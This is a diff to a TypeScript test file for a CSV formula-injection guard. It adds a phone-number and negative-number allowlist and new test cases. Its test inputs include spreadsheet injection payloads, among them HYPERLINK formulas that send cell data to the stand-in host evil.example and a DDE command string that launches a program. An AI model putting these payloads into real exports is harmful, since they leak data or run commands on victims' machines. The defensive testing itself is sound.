@@ -37,7 +37,17 @@ async function linesOf(made: Published): Promise<Record<string, string>[]> {
 }
 
 /** What a spreadsheet would take for a formula is told from it by a quote. */
-const guarded = (value: string) => (/^[=+\-@\t\r＝＋－＠]/u.test(value) ? `'${value}` : value)
+const guarded = (value: string) =>
+  /^[=+\-@\t\r＝＋－＠]/u.test(value) && !harmless.has(value) && !/^-[ ,]*$/.test(value) ? `'${value}` : value
+
+const harmless = new Set([
+  '+33612345678',
+  '+33 6 12 34 56 78',
+  '+1 (555) 123-4567',
+  '+44 20-7946-0958',
+  '-5',
+  '-3,5',
+])
 
 test.each([
   ['a comma', 'a,b'],
@@ -49,6 +59,19 @@ test.each([
   ['a formula', '=HYPERLINK("http://evil.example?x="&A1,"click")'],
   ['a sum', '+1+1'],
   ['a minus', '-2+3'],
+  ['a phone number', '+33612345678'],
+  ['a phone number with spaces', '+33 6 12 34 56 78'],
+  ['a phone number with an area', '+1 (555) 123-4567'],
+  ['a phone number with spaces and dashes', '+44 20-7946-0958'],
+  ['what looks like a phone number and is a sum', '+1-202-555-0143'],
+  ['a sum in parentheses', '+(1)-(2)'],
+  ['a formula behind a phone number', '+33612345678+HYPERLINK("http://evil.example")'],
+  ['a command behind a sign', "-cmd|' /C calc'!A0"],
+  ['a cell behind a phone number', '+33 6 (12)-A1'],
+  ['a wide sign and a number', '＋33612345678'],
+  ['a negative number', '-5'],
+  ['a negative number with a comma', '-3,5'],
+  ['a dash', '-'],
   ['an at', '@SUM(A1)'],
   ['a formula behind a tab', '\t=1+1'],
   ['a formula behind a line break', '\r=1+1'],
